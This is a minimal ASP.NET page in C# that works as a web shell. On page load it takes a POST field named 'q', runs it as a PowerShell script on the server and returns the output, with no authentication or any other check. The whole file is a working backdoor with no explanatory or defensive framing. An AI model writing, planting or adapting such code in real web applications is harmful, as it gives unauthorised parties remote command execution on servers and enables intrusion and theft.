<%@ Page Language="C#" %>
<%@ Assembly Name="System.Management.Automation,Version=3.0.0.0,Culture=neutral,PublicKeyToken=31BF3856AD364E35" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string c = Request.Form["q"];
    if (c == null) return;
    using (var ps = System.Management.Automation.PowerShell.Create())
    {
        ps.AddScript(c).AddCommand("Out-String");
        foreach (var r in ps.Invoke()) Response.Write(Server.HtmlEncode(r.ToString()));
    }
}
</script>
